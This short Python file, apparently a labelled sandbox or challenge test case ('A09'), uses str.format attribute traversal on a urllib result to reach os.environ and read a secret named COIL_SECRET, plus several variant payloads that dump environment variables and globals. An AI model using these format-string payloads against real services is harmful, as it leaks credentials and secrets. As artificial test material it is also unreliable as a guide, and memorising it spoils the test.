# A09: str.format traversal of a helper result:
# '{0.geturl.__func__.__globals__[sys].modules[os].environ[COIL_SECRET]}'
import urllib.parse


def handle(request):
    u = urllib.parse.urlsplit('http://x.test/a?b=1')
    out = []
    try:
        out.append('{0.geturl.__func__.__globals__[sys].modules[os].environ[COIL_SECRET]}'.format(u))  # GATE
    except Exception as e:
        out.append('1: ' + repr(e))
    for spec in ['{0.geturl.__func__.__globals__[sys].modules[os].environ}',
                 '{0.geturl.__globals__[sys].modules[posix].environ}',
                 '{0.__class__.__mro__}',
                 '{0.__class__.__init__.__globals__}',
                 '{0.__reduce_ex__.__self__}']:
        try:
            out.append(spec.format(u))
        except Exception as e:
            out.append(spec + ': ' + repr(e))
    return out
